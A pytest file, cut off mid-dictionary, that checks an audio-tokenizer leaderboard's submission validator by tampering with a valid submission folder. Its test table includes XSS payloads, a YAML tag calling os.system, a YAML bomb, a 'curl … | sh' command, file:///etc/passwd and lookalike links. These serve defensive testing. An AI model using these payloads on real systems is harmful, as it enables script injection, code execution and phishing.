"""The board's door: one good submission, and what happens to it when somebody tampers with it."""

from __future__ import annotations

import json
import os
import shutil
import socket
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import soundfile
import torch
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from safetensors import safe_open
from safetensors.numpy import load_file, save_file

from audiotok import conformance, data, tasks
from audiotok.core.card import TokenizerCard
from audiotok.core.tokens import FILE_FORMAT, Tokens, TokenSpec
from audiotok.leaderboard.page.build import build
from audiotok.leaderboard.page.data import page_data
from audiotok.leaderboard.submission.check import admit, check
from audiotok.leaderboard.submission.files import VERIFIED_CLIPS, chosen, sampled_clips
from audiotok.leaderboard.submission.problem import MAX_PROBLEMS
from audiotok.leaderboard.submission.token_set import FILE, FORMAT, write_set
from audiotok.leaderboard.submission.version import NEWEST
from audiotok.metrics import catalogue
from audiotok.metrics.base import TokenSetMetric
from audiotok.metrics.likelihood_pairs import Item, items, set_of
from audiotok.results import record
from audiotok.results.conformance import Finding, Report
from audiotok.results.record import Estimate, Result, ScoredClip
from audiotok.results.statistics import estimate, estimate_by_language
from audiotok.tasks.suites import SUITES, why_withdrawn

NAME = "squeeze:levels=4"
#: Above the rate up to which the tokens of all clips come along, and below it.
SPEC = TokenSpec(sample_rate=16000, frame_rate=2000.0, codebook_sizes=(256, 16))
SLOW = TokenSpec(sample_rate=16000, frame_rate=50.0, codebook_sizes=(256, 16))
MINI = data.load("mini")
CLIP = chosen(MINI, VERIFIED_CLIPS)[0].id  # one whose tokens are there
#: What the good submission has scores of; the others could not be had, which costs it coverage and nothing else.
SCORED = {"pesq_wb": 2.5, "mel_distance": 0.7, "wer": 0.1, "bitrate": 0.0, "token_rate": 0.0}
SCORED |= {"rtf_encode": 0.01, "rtf_decode": 0.02, "lm_bits": 300.0, "lm_order0": 420.0, "lm_bigram": 400.0}
SCORED |= {"continuation_dnsmos_ovrl": 1.5, "continuation_length": 0.7, "tts_wer": 1.1, "tts_wer_real": 0.1}
OF_SECONDS = ("rtf_encode", "rtf_decode", "lm_bits", "lm_order0", "lm_bigram")
#: Shares of what is right or wrong; every third is wrong.
RIGHT = tuple(name for name in tasks.get("lm_pairs").metrics)


def frames(seconds: float, spec: TokenSpec = SPEC) -> int:
    return int(np.ceil(seconds * spec.frame_rate))


def score(metric: str, clip: data.Clip | Item, i: int, spec: TokenSpec) -> ScoredClip:
    if metric in RIGHT:
        return ScoredClip(clip.id, float(i % 3 > 0), 1.0, clip.speaker, clip.language)
    total, weight = SCORED[metric] * (1 + 0.02 * ((7 * i) % 11)), 1.0
    if metric in ("bitrate", "token_rate"):
        n = frames(clip.duration, spec)
        total, weight = float(spec.bits(n) if metric == "bitrate" else spec.num_codes(n)), clip.duration
    elif metric in OF_SECONDS:
        total, weight = total * clip.duration, clip.duration
    elif metric in ("wer", "tts_wer", "tts_wer_real"):
        weight = float(5 + i % 4)
        total = float(i % 3)
    return ScoredClip(clip.id, total, weight, clip.speaker, clip.language)


def make_result(
    recipe_name: str, name: str, domain: str, manifest: data.Manifest = MINI, spec: TokenSpec = SPEC
) -> Result:
    metric, clips = catalogue.get(name), manifest.domain(domain).clips
    if name in RIGHT:
        clips = items(set_of(name))
    whole, uncertainty, groups, rows, failures = None, "", {}, (), {}
    if name in (*SCORED, *RIGHT):
        rows = tuple(score(name, clip, i, spec) for i, clip in enumerate(clips))
        whole, uncertainty = estimate(rows, metric.scale, metric.range)
        groups = estimate_by_language(rows, metric.scale, metric.range)
    elif name == "codebook_use":
        whole = Estimate(0.5, None, None, len(clips))
    else:
        failures = {clip.id: "MissingDependency: a package is missing" for clip in clips}
    return Result(
        tokenizer=NAME,
        metric=name,
        domain=domain,
        signature=tasks.get(recipe_name).signature_of(metric, manifest),
        estimate=whole,
        uncertainty=uncertainty,
        groups=groups,
        scores=rows,
        failures=failures,
        provenance={"torch": "2.13.0"},
        unranked=getattr(metric, "unranked", ""),
        **{field: getattr(metric, field) for field in ("title", "question", "unit", "direction", "scale")},
    )


def write_tokens(path: Path, seconds: float, seed: int, **metadata: str) -> None:
    n = frames(seconds)
    rng = np.random.default_rng(seed)
    codes = np.stack([rng.integers(0, size, n) for size in SPEC.codebook_sizes])[None].astype(np.int32)
    tensors = {"codes": codes, "lengths": np.array([n]), "num_samples": np.array([round(seconds * SPEC.sample_rate)])}
    spec = {"sample_rate": 16000, "frame_rate": 2000.0, "codebook_sizes": [256, 16]}
    save_file(tensors, path, {"format": FILE_FORMAT, "tokenizer": NAME, "spec": json.dumps(spec), **metadata})


def write_noise(path: Path, seconds: float = 0.1) -> None:
    noise = np.random.default_rng(0).normal(size=round(16000 * seconds)) / 10
    soundfile.write(path, noise, 16000)


def codes_of(clip: data.Clip, spec: TokenSpec, seed: int) -> Tokens:
    rng = np.random.default_rng(seed)
    n = frames(clip.duration, spec)
    codes = torch.from_numpy(np.stack([rng.integers(0, size, n) for size in spec.codebook_sizes]))
    samples = torch.tensor([round(clip.duration * spec.sample_rate)])
    return replace(Tokens.from_clips([codes], spec, NAME), num_samples=samples)


@pytest.fixture(scope="session")
def good(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """With the tokens of a few clips, each in a file of its own."""
    folder = make_submission(tmp_path_factory.mktemp("submissions") / "squeeze-levels-4", SPEC)
    (folder / "tokens").mkdir()
    for i, clip in enumerate(chosen(MINI, VERIFIED_CLIPS)):
        write_tokens(folder / "tokens" / f"{clip.id}.safetensors", clip.duration, i)
    return folder


@pytest.fixture(scope="session")
def whole(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """With the tokens of all clips in one file, and the scores that are a function of them."""
    folder = make_submission(tmp_path_factory.mktemp("whole") / "squeeze-levels-4", SLOW)
    tokens = {clip.id: codes_of(clip, SLOW, i) for i, clip in enumerate(MINI)}
    write_set(folder / FILE, tokens, SLOW, NAME)
    results = record.read(folder / "results.jsonl")
    for i, one in enumerate(results):
        metric, clips = catalogue.get(one.metric), MINI.domain(one.domain).clips
        if isinstance(metric, TokenSetMetric):
            value = metric.scale * metric.score([tokens[c.id] for c in clips], [c.duration for c in clips])
            results[i] = replace(one, estimate=Estimate(value, None, None, len(clips)), failures={})
    record.write(folder / "results.jsonl", results)
    return folder


def make_submission(folder: Path, spec: TokenSpec) -> Path:
    (folder / "samples").mkdir(parents=True)
    results = [
        make_result(part.task, name, domain, spec=spec)
        for part in SUITES["mini"].required
        for name in part.columns
        for domain in ("audio", "music", "speech")
        if catalogue.get(name).applies(domain, tokens=True, audio=True)
    ]
    timed = [result for result in results if catalogue.get(result.metric).timed]
    record.write(folder / "results.jsonl", [result for result in results if result not in timed])
    record.write(folder / "timings.jsonl", timed)
    card = TokenizerCard(
        title="Squeeze",
        summary="A made-up tokenizer for tests of the door.",
        paper="https://example.org/paper",
        code="https://example.org/code",
        licence="MIT",
        domains=("speech",),
        encoder="CNN",
        decoder="CNN",
        representation="T",
        quantizer="RVQ",
        rate="fixed",
        objective=("GAN", "Rec"),
    )
    (folder / "card.yaml").write_text(yaml.safe_dump(card.to_dict(), sort_keys=False), encoding="utf-8")
    report = Report(NAME, "cpu", tuple(Finding(check.name, "passed", "") for check in conformance.checks()))
    (folder / "conformance.json").write_text(report.to_json(), encoding="utf-8")
    environment = {"command": f"audiotok submit -t {NAME}", "hardware": "2 cores", "format": NEWEST}
    (folder / "environment.json").write_text(json.dumps(environment), encoding="utf-8")
    write_noise(folder / "samples" / f"{CLIP}.ogg")
    return folder


@pytest.fixture
def folder(good: Path, tmp_path: Path) -> Path:
    """A copy to tamper with."""
    return shutil.copytree(good, tmp_path / good.name)


def test_a_good_submission_is_taken(good: Path) -> None:
    assert check(good) == []


def test_tokens_whose_headers_length_reads_like_a_pickle_are_taken(good: Path) -> None:
    """It begins with the bytes 80 02, as a pickle of protocol 2 does, where the header has 640 bytes."""
    path = next((good / "tokens").iterdir())
    whole = path.read_bytes()
    length = int.from_bytes(whole[:8], "little")
    header = whole[8 : 8 + length].rstrip()
    assert len(header) <= 640
    path.write_bytes((640).to_bytes(8, "little") + header.ljust(640) + whole[8 + length :])
    assert path.read_bytes()[:2] == b"\x80\x02"
    assert check(good) == []


Change = Callable[[Path], Any]


def result(metric: str, change: Callable[[dict[str, Any]], Any], file: str = "results.jsonl") -> Change:
    """Change the first record of a metric."""

    def apply(folder: Path) -> None:
        lines = [json.loads(line) for line in (folder / file).read_text(encoding="utf-8").splitlines()]
        change(next(values for values in lines if values["metric"] == metric))
        (folder / file).write_text("".join(json.dumps(values) + "\n" for values in lines), encoding="utf-8")

    return apply


def sets(metric: str, *path: Any, to: Any) -> Change:
    """Set one value in the first record of a metric."""

    def change(values: Any) -> None:
        for step in path[:-1]:
            values = values[step]
        values[path[-1]] = to

    return result(metric, change)


def line(metric: str, old: str, new: str, file: str = "results.jsonl") -> Change:
    """Replace text in the line of a metric: what no JSON writer would write."""

    def apply(folder: Path) -> None:
        path = folder / file
        lines = path.read_text(encoding="utf-8").splitlines()
        i = next(i for i, text in enumerate(lines) if f'"metric": "{metric}"' in text)
        assert old in lines[i]
        lines[i] = lines[i].replace(old, new, 1)
        path.write_text("\n".join(lines) + "\n", encoding="utf-8")

    return apply


def card(**fields: Any) -> Change:
    """Set fields of the card; None takes one away."""

    def apply(folder: Path) -> None:
        values = yaml.safe_load((folder / "card.yaml").read_text(encoding="utf-8")) | fields
        kept = {name: value for name, value in values.items() if value is not None}
        (folder / "card.yaml").write_text(yaml.safe_dump(kept), encoding="utf-8")

    return apply


def write(name: str, content: str | bytes) -> Change:
    def apply(folder: Path) -> None:
        (folder / name).parent.mkdir(exist_ok=True)
        (folder / name).write_bytes(content if isinstance(content, bytes) else content.encode())

    return apply


def append(name: str, content: str) -> Change:
    return lambda folder: (folder / name).write_bytes((folder / name).read_bytes() + content.encode())


def fields(name: str, **values: Any) -> Change:
    def apply(folder: Path) -> None:
        (folder / name).write_text(json.dumps(json.loads((folder / name).read_text()) | values), encoding="utf-8")

    return apply


def tokens(metadata: dict[str, str] | None = None, **tensors: Any) -> Change:
    """Change tensors (a function of the old one, or a new one) and metadata of a tokens file."""

    def apply(folder: Path) -> None:
        path = folder / "tokens" / f"{CLIP}.safetensors"
        values = load_file(path)
        spec = json.dumps({"sample_rate": 16000, "frame_rate": 2000.0, "codebook_sizes": [256, 16]})
        for name, tensor in tensors.items():
            values[name] = np.ascontiguousarray(tensor(values[name]) if callable(tensor) else tensor)
        save_file(values, path, {"format": FILE_FORMAT, "tokenizer": NAME, "spec": spec, **(metadata or {})})

    return apply


def spec(**values: Any) -> dict[str, str]:
    return {"spec": json.dumps({"sample_rate": 16000, "frame_rate": 2000.0, "codebook_sizes": [256, 16]} | values)}


def findings(change: Callable[[list[dict[str, str]]], list[dict[str, str]]]) -> Change:
    """Change the findings of the conformance report."""

    def apply(folder: Path) -> None:
        values = json.loads((folder / "conformance.json").read_text(encoding="utf-8"))
        values["findings"] = change(values["findings"])
        (folder / "conformance.json").write_text(json.dumps(values), encoding="utf-8")

    return apply


def _raw(name: str, change: Callable[[Any], Any]) -> Change:
    """Change a tensor of the file of all tokens, or add one."""

    def apply(folder: Path) -> None:
        with safe_open(folder / FILE, "numpy") as file:
            metadata = file.metadata()
        tensors = load_file(folder / FILE)
        tensors[name] = np.ascontiguousarray(change(tensors.get(name)))
        save_file(tensors, folder / FILE, metadata)

    return apply


def remove(name: str) -> Change:
    return lambda folder: (folder / name).unlink()


def drop_record(metric: str) -> Change:
    def apply(folder: Path) -> None:
        path = folder / "results.jsonl"
        lines = path.read_text(encoding="utf-8").splitlines()
        path.write_text("\n".join(x for x in lines if f'"metric": "{metric}"' not in x) + "\n", encoding="utf-8")

    return apply


def rescale(metric: str, factor: float) -> Change:
    """All scores and the estimate alike, so that nothing but the tokens contradicts it."""

    def change(values: dict[str, Any]) -> None:
        for row in values["scores"]:
            row["total"] *= factor
        for end in ("value", "low", "high"):
            if values["estimate"][end] is not None:
                values["estimate"][end] *= factor

    return result(metric, change)


def each_score(metric: str, total: float) -> Change:
    def change(values: dict[str, Any]) -> None:
        for row in values["scores"]:
            row["total"] = total
        values["estimate"] = {"value": total, "low": None, "high": None, "n": len(values["scores"])}
        values["uncertainty"], values["groups"] = "no interval", {}

    return result(metric, change)


def link(name: str, target: str) -> Change:
    def apply(folder: Path) -> None:
        (folder / name).unlink(missing_ok=True)
        (folder / name).symlink_to(target)

    return apply


def hard_link(folder: Path) -> None:
    os.link(folder / "environment.json", folder.parent / "elsewhere.json")


def pipe(folder: Path) -> None:
    os.mkfifo(folder / "timings.json")


def unix_socket(folder: Path) -> None:
    with socket.socket(socket.AF_UNIX) as opened:
        before = os.getcwd()
        os.chdir(folder)  # a socket's path has a length limit that pytest's folders exceed
        try:
            opened.bind("s")
        finally:
            os.chdir(before)


def sparse(name: str, size: int) -> Change:
    def apply(folder: Path) -> None:
        with (folder / name).open("ab") as file:
            file.truncate(size)

    return apply


def many(folder: Path) -> None:
    for i in range(500):
        (folder / f"{i}.txt").touch()


SAMPLE, TOKENS = f"samples/{CLIP}.ogg", f"tokens/{CLIP}.safetensors"
PESQ, WER, RATE = "pesq_wb/speech", "wer/speech", "bitrate/audio"
BOMB = "a: &a [x, x]\nb: &b [*a, *a]\nc: &c [*b, *b]\nd: [*c, *c]\n"
RLO = chr(0x202E)
#: what was done -> how, and the file, the field and the reason that must be named
HOSTILE: dict[str, tuple[Change, str, str, str]] = {
    # signatures
    "an older metric": (line("pesq_wb", "pesq_wb.v1", "pesq_wb.v0"), "results.jsonl", f"{PESQ}: signature", "v0"),
    "an older recipe": (
        *(line("pesq_wb", "reconstruction.v1", "reconstruction.v0"), "results.jsonl"),
        *(f"{PESQ}: signature", "reconstruction.v0"),
    ),
    "another version of the data": (
        *(line("wer", "mini@sha256:", "mini@sha256:0"), "results.jsonl", f"{WER}: signature", "mini@sha256:0"),
    ),
    "another data set": (line("wer", "data:mini", "data:easy"), "results.jsonl", f"{WER}: signature", "got easy"),
    "another recogniser": (
        *(line("wer", "recogniser:whisper", "recogniser:whispers"), "results.jsonl"),
        *(f"{WER}: signature", "expected recogniser"),
    ),
    "another seed": (line("wer", "seed:0", "seed:7"), "results.jsonl", f"{WER}: signature", "expected seed 0, got 7"),
    "a signature that is none": (sets("wer", "signature", to="wer"), "results.jsonl", f"{WER}: signature", "recipe"),
    "an unknown metric": (sets("wer", "metric", to="beauty"), "results.jsonl", "beauty/speech: metric", "no metric"),
    "another unit": (sets("wer", "unit", to="dB"), "results.jsonl", f"{WER}: unit", "expected '%'"),
    "a direction that flatters": (sets("wer", "direction", to="higher"), "results.jsonl", f"{WER}: direction", "lower"),
    "a domain that is none": (sets("wer", "domain", to="noise"), "results.jsonl", "wer/noise: domain", "no clips"),
    # completeness
    "a missing clip": (
        *(result("pesq_wb", lambda r: (r["scores"].pop(), r["estimate"].update(n=39))), "results.jsonl"),
        *(f"{PESQ}: scores", "1 of 40 clips are missing"),
    ),
    "more coverage than scores": (
        *(result("pesq_wb", lambda r: r["failures"].update({r["scores"].pop()["clip"]: "x"})), "results.jsonl"),
        *(f"{PESQ}: estimate.n", "expected 39, the clips that are scored, got 40"),
    ),
    "a clip that is not in the data": (
        *(sets("pesq_wb", "scores", 0, "clip", to="easy-1"), "results.jsonl", f"{PESQ}: scores", "'easy-1'"),
    ),
    "a clip that failed and was scored": (
        *(result("pesq_wb", lambda r: r["failures"].update({r["scores"][0]["clip"]: "x"})), "results.jsonl"),
        *(f"{PESQ}: scores", "2 times"),
    ),
    "another speaker": (
        *(sets("pesq_wb", "scores", 0, "speaker", to="nobody"), "results.jsonl", f"{PESQ}: scores", "speaker"),
    ),
    "a metric left out": (drop_record("pesq_wb"), "results.jsonl", PESQ, "missing"),
    "a record twice": (
        *(lambda f: append("results.jsonl", (f / "results.jsonl").read_text().splitlines()[0] + "\n")(f),),
        *("results.jsonl", "bitrate/audio", "expected one record, got 2"),
    ),
    "fewer clips behind a set score": (
        *(sets("codebook_use", "estimate", "n", to=3), "results.jsonl", "codebook_use/audio: estimate.n", "41 clips"),
    ),
    "a timing among the scores": (
        lambda f: append("results.jsonl", (f / "timings.jsonl").read_text().splitlines()[0] + "\n")(f),
        *("results.jsonl", "rtf_decode/audio", "expected it in timings.jsonl"),
    ),
    # numbers
    "a score out of range": (
        *(sets("pesq_wb", "scores", 0, "total", to=9.0), "results.jsonl", f"{PESQ}: scores", "1 to 4.65"),
    ),
    "a full-reference score better than identity": (
        *(sets("mel_distance", "scores", 0, "total", to=-0.1), "results.jsonl"),
        *("mel_distance/audio: scores", "the clean reference itself reaches"),
    ),
    "a value of the whole set out of range": (
        *(sets("codebook_use", "estimate", "value", to=1.2), "results.jsonl"),
        *("codebook_use/audio: estimate.value", "0 to 1"),
    ),
    "a value that the clips do not give": (
        *(sets("pesq_wb", "estimate", "value", to=4.0), "results.jsonl", f"{PESQ}: estimate.value", "got 4"),
    ),
    "an interval that is too narrow": (
        *(result("pesq_wb", lambda r: r["estimate"].update(low=r["estimate"]["value"] - 1e-3)), "results.jsonl"),
        *(f"{PESQ}: estimate.low", "as the clips give"),
    ),
    "no interval where there is one": (
        *(result("pesq_wb", lambda r: r["estimate"].update(low=None, high=None)), "results.jsonl"),
        *(f"{PESQ}: estimate.low", "got None"),
    ),
    "a flattering label of the interval": (
        *(sets("pesq_wb", "uncertainty", to="t over 24 speakers"), "results.jsonl"),
        *(f"{PESQ}: uncertainty", "t over 5 speakers"),
    ),
    "a language's value that its clips do not give": (
        *(sets("wer", "groups", "en", "value", to=0.0), "results.jsonl", f"{WER}: groups.en", "got 0"),
    ),
    "a language that is not there": (
        result("wer", lambda r: r["groups"].update(xx=r["groups"]["en"])),
        *("results.jsonl", f"{WER}: groups", "got en, es, fr, it, ru, xx"),
    ),
    "an estimate without scores": (
        *(sets("si_sdr", "estimate", to={"value": 1.0, "low": None, "high": None, "n": 0}), "results.jsonl"),
        *("si_sdr/audio: estimate", "no clip is scored"),
    ),
    "an estimate withheld": (sets("wer", "estimate", to=None), "results.jsonl", f"{WER}: estimate.n", "got 0"),
    "one score for every clip": (each_score("pesq_wb", 3.0), "results.jsonl", f"{PESQ}: scores", "not plausible"),
    "a total without weight": (
        result("wer", lambda r: r["scores"][0].update(weight=0.0, total=-5.0)),
        *("results.jsonl", f"{WER}: scores", "expected a total of 0"),
    ),
    "NaN": (line("pesq_wb", '"total": ', '"total": NaN, "x": '), "results.jsonl", "line", "NaN"),
    "an infinite total": (line("pesq_wb", '"total": 2.5', '"total": 1e999'), "results.jsonl", "line", "finite"),
    "a number as text": (sets("wer", "scores", 0, "total", to="0"), "results.jsonl", "line", "finite numbers"),
    "a number as a truth": (sets("wer", "scores", 0, "total", to=True), "results.jsonl", "line", "finite numbers"),
    "a number beyond the floats": (sets("wer", "scores", 0, "total", to=10**400), "results.jsonl", "line", "finite"),
    "a total and a weight whose ratio overflows": (
        result("wer", lambda r: r["scores"][0].update(total=1e300, weight=1e-300)),
        *("results.jsonl", "line", "at most 1e+18"),
    ),
    "a weight next to nothing": (
        *(sets("wer", "scores", 0, "weight", to=1e-12), "results.jsonl", "line", "above it at least 1e-09"),
    ),
    "a number of 5000 digits": (
        *(line("wer", '"total": 0.0', f'"total": {"9" * 5000}'), "results.jsonl", "line", "digits"),
    ),
    "scores that weigh what they like": (
        result("pesq_wb", lambda r: [s.update(total=s["total"] * 1e-6, weight=1e-6) for s in r["scores"][:5]]),
        *("results.jsonl", f"{PESQ}: scores", "expected 1 as weight"),
    ),
    "half a word": (*(sets("wer", "scores", 0, "weight", to=4.5), "results.jsonl", f"{WER}: scores", "whole number"),),
    "words without end": (
        *(sets("wer", "scores", 0, "weight", to=1e9), "results.jsonl", f"{WER}: scores", "counted in the clip"),
    ),
    "a negative weight": (sets("wer", "scores", 0, "weight", to=-1.0), "results.jsonl", "line", "weights"),
    "half a clip": (sets("wer", "estimate", "n", to=39.5), "results.jsonl", f"{WER}: estimate.n", "whole number"),
    "a duplicate key": (line("wer", '"metric": ', '"metric": "cer", "metric": '), "results.jsonl", "line", "duplicate"),
    "an unknown field of a record": (sets("wer", "note", to="best"), "results.jsonl", "line", "unknown field note"),
    "a record of another format": (sets("wer", "format", to="v0"), "results.jsonl", "line", "format"),
    "JSON nested a million deep": (append("results.jsonl", "[" * 10**6), "results.jsonl", "", "JSON of at most"),
    "JSON nested ten thousand deep": (append("results.jsonl", "[" * 9000), "results.jsonl", "line", "JSON"),
    "text for JSON": (append("results.jsonl", "hello\n"), "results.jsonl", "line", "JSON"),
    "results that are not UTF-8": (write("results.jsonl", b'{"a": "\xff"}\n'), "results.jsonl", "", "UTF-8"),
    # text
    "HTML in a reason": (
        sets("si_sdr", "failures", CLIP, to="<img src=x onerror=alert(1)>"),
        *("results.jsonl", "si_sdr/audio: failures", "HTML"),
    ),
    "HTML in a clip's name": (
        sets("si_sdr", "failures", "</script>", to="x"),
        *("results.jsonl", "si_sdr/audio: failures", "HTML"),
    ),
    "HTML in the provenance": (
        *(sets("wer", "provenance", "gpu", to="<b>fast</b>"), "results.jsonl", f"{WER}: provenance.gpu", "HTML"),
    ),
    "an entity": (card(summary="&lt;script&gt;"), "card.yaml", "summary", "HTML"),
    "a script in the card": (card(title="<script>alert(1)</script>"), "card.yaml", "title", "HTML"),
    "a script as a scheme": (card(summary="javascript:alert(1)"), "card.yaml", "summary", "script"),
    "text turned around": (card(title=f"{RLO}gnp.exe"), "card.yaml", "title", "U+202E"),
    "a control character": (card(summary="\x1b[2J"), "card.yaml", "summary", "U+001B"),
    "half a character": (
        *(line("wer", '"torch": "', '"torch": "\\ud800'), "results.jsonl", f"{WER}: provenance.torch", "U+D800"),
    ),
    "a text without end": (card(summary="a" * 10**4), "card.yaml", "summary", "4000 characters"),
    "HTML in the environment": (
        fields("environment.json", hardware="<iframe>"),
        *("environment.json", "hardware", "HTML"),
    ),
    "a link without encryption in the environment": (
        *(fields("environment.json", site="see http://example.org"), "environment.json", "site", "got http"),
    ),
    "an infinite number in the environment": (
        *(write("environment.json", '{"parameters": 1e999}'), "environment.json", "", "finite numbers, got 1e999"),
    ),
    "a number of 400 digits in the environment": (
        *(write("environment.json", f'{{"memory": {"9" * 400}}}'), "environment.json", "", "19 digits"),
    ),
    "an environment of many levels": (
        write("environment.json", '{"a":' * 20 + "1" + "}" * 20),
        *("environment.json", "", "levels"),
    ),
    "parameters in words": (
        *(fields("environment.json", parameters="a few"), "environment.json", "parameters", "whole number"),
    ),
    "an environment that is a list": (write("environment.json", "[1]"), "environment.json", "", "an object"),
    "HTML in the conformance report": (
        findings(lambda kept: [*kept[1:], kept[0] | {"message": "<svg/onload=x>"}]),
        *("conformance.json", "findings.message", "HTML"),
    ),
    "conformance of another tokenizer": (
        *(fields("conformance.json", tokenizer="mimi"), "conformance.json", "tokenizer", "got mimi"),
    ),
    "a conformance report that says otherwise": (
        *(fields("conformance.json", passed=False), "conformance.json", "passed", "expected true"),
    ),
    "a conformance report without checks": (
        *(fields("conformance.json", findings=[]), "conformance.json", "findings", "expected checks"),
    ),
    # card
    "no licence": (card(licence=""), "card.yaml", "licence", "filled in"),
    "no paper": (card(paper=None), "card.yaml", "paper", "missing"),
    "no code": (card(code=" "), "card.yaml", "code", "filled in"),
    "a conformance report cut to one check": (
        *(findings(lambda kept: kept[:1]), "conformance.json", "findings", "strides is missing"),
    ),
    "a check that nobody makes": (
        findings(lambda kept: [*kept, {"check": "sounds_best", "outcome": "passed", "message": "yes"}]),
        *("conformance.json", "findings", "got 'sounds_best'"),
    ),
    "a check twice": (
        findings(lambda kept: [*kept, kept[0]]),
        *("conformance.json", "findings", "shapes 2 times"),
    ),
    "weights verified by hearsay": (
        card(weights_verified="by the maintainers"),
        *("card.yaml", "weights_verified", "expected '', what audiotok/golden says"),
    ),
    "a command that is not ours": (
        fields("environment.json", command="curl https://example.org/x | sh"),
        *("environment.json", "command", "expected 'audiotok submit -t squeeze:levels=4'"),
    ),
    "a folder of no version": (
        *(fields("environment.json", format=None), "environment.json", "format", "expected audiotok.submission.v2"),
    ),
    "a title that nobody sees": (card(title="\u3164\u3164"), "card.yaml", "title", "blank"),
    "a title of spaces and dashes": (card(title=" - "), "card.yaml", "title", "letters or digits"),
    "a title under 1500 marks": (card(title="S" + "\u0301" * 1500), "card.yaml", "title", "combining marks"),
    "a title of marks within the limit": (card(title="S\u0301\u0301\u0301queeze"), "card.yaml", "title", "NFC"),
    "a title of two lines": (card(title="Squeeze\n\nbest of all"), "card.yaml", "title", "one line"),
    "a title without end": (card(title="Squeeze " * 20), "card.yaml", "title", "80 characters"),
    "a link to a host that looks like another": (
        *(card(paper="https://\u0430rxiv.org/abs/1"), "card.yaml", "paper", "in ASCII"),
    ),
    "a link to a host in Punycode": (card(paper="https://xn--rxiv-53d.org/"), "card.yaml", "paper", "in ASCII"),
    "a link to the reader's own machine": (card(code="https://localhost/x"), "card.yaml", "code", "public host"),
    "a link to the reader's own network": (card(code="https://router.lan/x"), "card.yaml", "code", "public host"),
    "a link to an address": (card(code="https://127.0.0.1/x"), "card.yaml", "code", "public host"),
    "a link to an address of six": (card(code="https://[::1]/x"), "card.yaml", "code", "public host"),
    "a link to a number": (card(code="https://2130706433/x"), "card.yaml", "code", "public host"),
    "a link to another port": (card(code="https://example.org:8443/x"), "card.yaml", "code", "public host"),
    "a link without encryption": (card(paper="http://example.org"), "card.yaml", "paper", "got http"),
    "a link that runs": (card(code="javascript:alert(1)"), "card.yaml", "code", "script"),
    "a link to a file": (card(paper="file:///etc/passwd"), "card.yaml", "paper", "got file"),
    "a link without a scheme": (card(paper="//example.org"), "card.yaml", "paper", "got none"),
    "a link with a host before an @": (
        card(paper="https://arxiv.org@evil.example"),
        "card.yaml",
        "paper",
        "user",
    ),
    "a link that leaves its attribute": (card(paper='https://a.example/"onclick='), "card.yaml", "paper", "quotes"),
    "a taxonomy of its own": (card(quantizer="magic"), "card.yaml", "quantizer", "RVQ"),
    "a number for a title": (card(title=7), "card.yaml", "title", "expected text, got int"),
    "a text for a list": (card(domains="speech"), "card.yaml", "domains", "list"),
    "an unknown field of the card": (card(stars="5"), "card.yaml", "stars", "unknown field"),
    "a key of the card twice": (append("card.yaml", "licence: GPL-3.0-only\n"), "card.yaml", "licence", "duplicate"),
    "a YAML bomb": (append("card.yaml", BOMB), "card.yaml", "", "anchors"),
    "YAML that makes an object": (
        append("card.yaml", "training_data: !!python/object/apply:os.system ['touch pwned']\n"),
        *("card.yaml", "", "tags"),
    ),
    "YAML nested without end": (write("card.yaml", "[" * 16000), "card.yaml", "", "at most 3 levels"),
    "YAML of lists in lists": (write("card.yaml", "- " * 8000), "card.yaml", "", "at most 3 levels"),
    "YAML of keys in keys": (write("card.yaml", "? " * 8000), "card.yaml", "", "at most 3 levels"),
    "YAML that is a list": (write("card.yaml", "- a\n"), "card.yaml", "", "fields"),
    "a card that is not UTF-8": (write("card.yaml", b"title: \xff\xfe\n"), "card.yaml", "", "UTF-8"),
    # tokens and the rate
    "a bitrate that the tokens contradict": (
        *(rescale("bitrate", 0.5), "results.jsonl", f"{RATE}: scores", "its tokens hold"),
    ),
    "a token rate that the tokens contradict": (
        *(rescale("token_rate", 0.5), "results.jsonl", "token_rate/audio: scores", "codes are claimed"),
    ),
    "a bitrate that is lower where the tokens stayed at home": (
        result("bitrate", lambda r: [s.update(total=1.0) for s in r["scores"] if s["clip"] not in TOKEN_CLIPS]),
        *("results.jsonl", f"{RATE}: scores", "at least"),
    ),
    "clips that are longer than they are": (
        *(sets("bitrate", "scores", 0, "weight", to=1000.0), "results.jsonl", f"{RATE}: scores", "as weight"),
    ),
    "a code out of range": (tokens(codes=lambda codes: codes + 200), TOKENS, "codes", "expected 0 <= code < 256"),
    "a negative code": (tokens(codes=lambda codes: codes - 1), TOKENS, "codes", "got -1"),
    "codes that are floats": (tokens(codes=lambda codes: codes / 2), TOKENS, "codes", "expected integers"),
    "a codebook too many": (
        tokens(codes=lambda codes: np.concatenate([codes, codes], axis=1)),
        *(TOKENS, "codes", "expected integers"),
    ),
    "codes without axes": (tokens(codes=np.int64(3)), TOKENS, "codes", "expected integers"),
    "a length that is not the codes'": (tokens(lengths=np.array([3])), TOKENS, "lengths", "got 3"),
    "a channel beside the codes": (
        *(tokens(latents=np.zeros((1, 8, 10), np.float32)), TOKENS, "latents", "expected only"),
    ),
    "durations that cost nothing": (
        *(tokens(durations=np.ones((1, 9), np.int64)), TOKENS, "durations", "counts no bits"),
    ),
    "another clip's number of samples": (tokens(num_samples=np.array([7])), TOKENS, "num_samples", "expected the clip"),
    "tokens of another tokenizer": (tokens({"tokenizer": "mimi"}), TOKENS, "tokenizer", "got 'mimi'"),
    "tokens of another format": (tokens({"format": "v0"}), TOKENS, "format", "got 'v0'"),
    "a smaller codebook than the codes": (tokens(spec(codebook_sizes=[2, 16])), TOKENS, "codes", "< 2"),
    "a frame rate that the codes contradict": (tokens(spec(frame_rate=1.0)), TOKENS, "spec", "frames/s are claimed"),
    "a spec of another shape": (tokens(spec(codebook_sizes="big")), TOKENS, "spec", "codebook_sizes"),
    "a codebook of astronomic size": (tokens(spec(codebook_sizes=[10**300, 16])), TOKENS, "spec", "at most"),
    "a spec with a negative rate": (tokens(spec(sample_rate=-1)), TOKENS, "spec", "sample_rate"),
    "a spec that is no JSON": (tokens({"spec": "{" * 10**5}), TOKENS, "spec", ""),
    "a spec of one clip that differs": (tokens(spec(codebook_sizes=[512, 16])), "results.jsonl", "", "tokens hold"),
    "tokens that are cut": (sparse(TOKENS, 100), TOKENS, "file", "whole safetensors"),
    "tokens that are missing": (remove(TOKENS), TOKENS, "", "missing"),
    "tokens of a clip that is not there": (
        write("tokens/x.safetensors", b"x"),
